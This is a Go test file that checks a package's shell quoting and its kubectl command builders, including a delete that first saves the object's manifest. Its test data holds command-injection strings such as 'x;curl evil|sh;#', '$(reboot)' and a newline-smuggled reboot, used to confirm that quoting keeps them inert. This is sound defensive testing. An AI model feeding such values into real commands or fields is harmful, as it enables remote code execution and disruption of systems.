package shell

import (
	"os/exec"
	"slices"
	"strings"
	"testing"
)

// hostile are words that a shell would interpret.
var hostile = []string{
	"x;curl evil|sh;#", "$(reboot)", "`reboot`", "a b", "", "'", "'; reboot; '", `"`, `\`, "a\nreboot", "-", "*", "~", "!x", "x&", ">x", "#", "é", "{a,b}",
}

// TestK7Words: a shell parses each word of a command as exactly that word.
func TestK7Words(t *testing.T) {
	said, err := exec.Command("sh", "-c", Command(append([]string{"printf", `%s\0`}, hostile...)...)).Output()
	if got := strings.Split(strings.TrimSuffix(string(said), "\x00"), "\x00"); err != nil || !slices.Equal(got, hostile) {
		t.Errorf("%q, %v", got, err)
	}
}

// TestK7Kubectl: the flags that select the cluster are in the right place, and each word and the cluster's name stays one
// word.
func TestK7Kubectl(t *testing.T) {
	for want, got := range map[string]string{
		"kubectl --context east describe pv 'x;curl evil|sh;#'": Kubectl{Cluster: "east", Flags: "--context east"}.Do("describe", "pv", hostile[0]),
		"in cluster 'a;b': kubectl get pods":                    Kubectl{Cluster: "a;b"}.Do("get", "pods"),
		"in cluster east (https://a): kubectl get pods":         Kubectl{Cluster: "east (https://a)"}.Do("get", "pods"),
		"kubectl migrate kept '$(reboot)' --context east":       Kubectl{Cluster: "east", Flags: "--context east"}.Migrate("kept", hostile[1]),
		"kubectl get pods -l a=b,c=d -o 'jsonpath={.items}'":    Kubectl{}.Do("get", "pods", "-l", "a=b,c=d", "-o", "jsonpath={.items}"),
	} {
		if got != want {
			t.Errorf("%s, want %s", got, want)
		}
	}
}

// TestK7Format: each word of a format is one word for a shell, whatever its values contain. A pipe starts another command.
func TestK7Format(t *testing.T) {
	east := Kubectl{Cluster: "east", Flags: "--context east"}
	for want, got := range map[string]string{
		"kubectl --context east describe pvc -n shop 'a b'":                      east.Format("describe pvc -n %s %s", "shop", "a b"),
		"kubectl --context east describe pv 'x;curl evil|sh;#'":                  east.Format("describe pv %s", hostile[0]),
		"kubectl --context east get pv | grep 'a;b/c'":                           east.Format("get pv | grep %s/%s", "a;b", "c"),
		"kubectl --context east get pv | grep 'a|b/c'":                           east.Format("get pv | grep %s/%s", "a|b", "c"),
		`kubectl --context east patch pv a -p '{"spec":{"policy":"Retain"}}'`:    east.Format(`patch pv %s -p '{"spec":{"policy":"Retain"}}'`, "a"),
		`kubectl --context east patch pv a -p '{"name":"it'\''s"}'`:              east.Format(`patch pv %s -p '{"name":"%s"}'`, "a", "it's"),
		"kubectl --context east get pv":                                          east.Format("get pv"),
		"kubectl --context east describe volumesnapshot -n '' 'b'\\''s' -o yaml": east.Format("describe volumesnapshot -n %s %s -o yaml", "", "b's"),
	} {
		if got != want {
			t.Errorf("%s, want %s", got, want)
		}
	}
}

// TestRemove: an object whose manifest could not be written is not deleted, and with the manifest kept it is.
func TestRemove(t *testing.T) {
	remove := Kubectl{Flags: "--context east"}.Remove("pdb", "shop", "web")
	for name, tc := range map[string]struct {
		read    string
		deletes bool
	}{
		"it was read":     {"true", true},
		"it was not read": {"false", false},
	} {
		t.Run(name, func(t *testing.T) {
			cmd := exec.CommandContext(t.Context(), "sh", "-c", `kubectl() { case "$*" in *get*) echo kind; `+tc.read+`;; *) echo "$@" >>done;; esac; }; `+remove+`; cat done pdb-web.yaml`)
			cmd.Dir = t.TempDir()
			out, _ := cmd.CombinedOutput() // cat fails where nothing was deleted
			if strings.Contains(string(out), "--context east delete pdb -n shop web") != tc.deletes || !strings.Contains(string(out), "kind\n") {
				t.Errorf("%s: %s", remove, out)
			}
		})
	}
	if text := (Kubectl{Cluster: "east"}).Remove("pdb", "shop", "web"); !slices.Equal(Commands(text), []string{"kubectl get pdb -n shop web -o yaml > pdb-web.yaml", "kubectl delete pdb -n shop web"}) {
		t.Errorf("the commands of %q are %q", text, Commands(text))
	}
}
